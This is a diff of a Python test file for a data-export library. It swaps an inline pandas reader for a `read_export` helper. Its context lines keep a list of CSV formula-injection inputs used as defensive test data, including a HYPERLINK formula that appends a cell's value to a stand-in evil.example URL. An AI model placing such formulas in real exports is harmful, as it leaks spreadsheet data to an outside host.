@@ -12,7 +12,9 @@ import pytest
 
 from genlib import BadRequest, Filters, Generation
 from genlib.cli import main as cli_main
+from tests.contract.records import read_export
 from tests.vaults import make_vault
+
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"Open")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd",
            "\uff1dHYPERLINK(1)", "plain text", "it's fine = yes"]
@@ -69,7 +71,7 @@ def test_a_windowed_export_keeps_every_row_newest_first_with_one_header(vault, t
     ids = seed(vault, [f"row {i}" for i in range(11)])
     seen = []
     dest = vault.export(tmp_path / f"out.{fmt}", fmt, progress=lambda done, total: seen.append((done, total)))
-    frame = {"csv": pd.read_csv, "parquet": pd.read_parquet, "jsonl": lambda p: pd.read_json(p, lines=True)}[fmt](dest)
+    frame = read_export(dest, fmt)
     assert list(frame["id"]) == ids[::-1]  # as History's table shows them
     assert seen == [(3, 11), (7, 11), (11, 11)]  # the newest window (3 rows) first
     assert sorted(p.name for p in tmp_path.iterdir()) == ["data", f"out.{fmt}"]  # no window or part file left
